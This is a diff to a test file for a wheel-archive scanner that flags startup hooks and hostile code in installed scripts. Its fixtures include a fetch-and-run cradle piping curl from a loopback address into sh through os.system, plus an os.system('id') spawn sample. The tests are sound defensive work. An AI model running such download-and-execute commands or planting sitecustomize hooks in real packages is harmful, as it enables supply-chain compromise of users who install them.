@@ -6,6 +6,8 @@ from __future__ import annotations
 import zipfile
 from pathlib import Path
 
+import pytest
+
 from guard.analysis.scan import scan_archive
 from guard.analysis.scan.commands import shadowed_commands
 from guard.analysis.scan.layout import Layout
@@ -101,12 +103,33 @@ def test_the_scan_leaves_a_wheel_with_its_own_command_alone(tmp_path: Path) -> N
     assert result.signals == ()
 
 
-def test_a_wheels_sitecustomize_runs_at_every_start_up(tmp_path: Path) -> None:
-    for member in ("sitecustomize.py", "sample-1.0.data/purelib/usercustomize.py"):
-        path = wheel(tmp_path, {member: "import sample\n"}, name="sample-1.0")
-        result = scan_archive(path, path.name)
-        assert result.level == "warn"
-        assert [(s.rule, s.role) for s in result.signals] == [("pth-code", "startup")]
+@pytest.mark.parametrize(
+    "member",
+    [
+        "sitecustomize.py",
+        "sample-1.0.data/purelib/usercustomize.py",
+        # (the data scheme installs under the environment's prefix: into site-packages)
+        "sample-1.0.data/data/lib/python3.11/site-packages/sitecustomize.py",
+        "sample-1.0.data/data/Lib/site-packages/usercustomize.py",
+    ],
+)
+def test_a_wheels_sitecustomize_runs_at_every_start_up(tmp_path: Path, member: str) -> None:
+    path = wheel(tmp_path, {member: "import sample\n"}, name="sample-1.0")
+    result = scan_archive(path, path.name)
+    assert result.level == "warn"
+    assert [(s.rule, s.role) for s in result.signals] == [("pth-code", "startup")]
+
+
+def test_a_module_the_data_scheme_installs_into_site_packages_is_a_top_level_module(
+    tmp_path: Path,
+) -> None:
+    """What ``.data/data/lib/python3.X/site-packages/`` holds installs beside the
+    wheel's root: a module there is a top-level module, read as one."""
+    member = "sample-1.0.data/data/lib/python3.11/site-packages/helper.py"
+    files = {"sample/__init__.py": "import helper\n", member: "import os\nos.system('id')\n"}
+    path = wheel(tmp_path, files, name="sample-1.0")
+    result = scan_archive(path, path.name)
+    assert [(s.kind, s.file, s.role) for s in result.signals] == [("spawn", "helper.py", "import")]
 
 
 def test_a_module_named_sitecustomize_inside_a_package_is_no_start_up_hook(
@@ -116,3 +139,45 @@ def test_a_module_named_sitecustomize_inside_a_package_is_no_start_up_hook(
     path = wheel(tmp_path, files, name="sample-1.0")
     result = scan_archive(path, path.name)
     assert result.level == "clean"
+
+
+_SCRIPT_CRADLE = "import os\nos.system('curl -s http://127.0.0.1:9/x.sh | sh')\n"
+
+
+@pytest.mark.parametrize(
+    ("member", "text"),
+    [
+        ("sample-1.0.data/scripts/sample-run", "#!python\n" + _SCRIPT_CRADLE),
+        ("sample-1.0.data/scripts/sample-run", "#!/usr/bin/env python3\n" + _SCRIPT_CRADLE),
+        ("sample-1.0.data/scripts/run.py", _SCRIPT_CRADLE),
+    ],
+)
+def test_a_wheels_python_script_is_read_as_the_packages_code(
+    tmp_path: Path, member: str, text: str
+) -> None:
+    """pip installs ``.data/scripts/`` as commands: a Python one, whatever its name,
+    is read as the package's other modules are (a technique counts anywhere)."""
+    path = wheel(tmp_path, {"sample/__init__.py": "", member: text}, name="sample-1.0")
+    result = scan_archive(path, path.name)
+    assert result.level == "block"
+    assert ("cradle", member, "module") in {(s.kind, s.file, s.role) for s in result.signals}
+
+
+def test_a_wheels_script_that_does_its_job_under_its_main_guard_is_quiet(tmp_path: Path) -> None:
+    script = (
+        "#!python\nimport sys\nimport urllib.request\n\n\ndef main():\n"
+        "    urllib.request.urlretrieve(sys.argv[1], 'page.html')\n\n\n"
+        "if __name__ == '__main__':\n    main()\n"
+    )
+    files = {"sample/__init__.py": "", "sample-1.0.data/scripts/fetch-page": script}
+    path = wheel(tmp_path, files, name="sample-1.0")
+    assert scan_archive(path, path.name).level == "clean"
+
+
+def test_a_wheels_shell_script_is_not_read_as_python(tmp_path: Path) -> None:
+    script = '#!/bin/sh\ncurl -s "$1" | python -m sample\n'
+    files = {"sample/__init__.py": "", "sample-1.0.data/scripts/sample-sh": script}
+    path = wheel(tmp_path, files, name="sample-1.0")
+    result = scan_archive(path, path.name)
+    assert result.level == "clean"
+    assert result.signals == ()
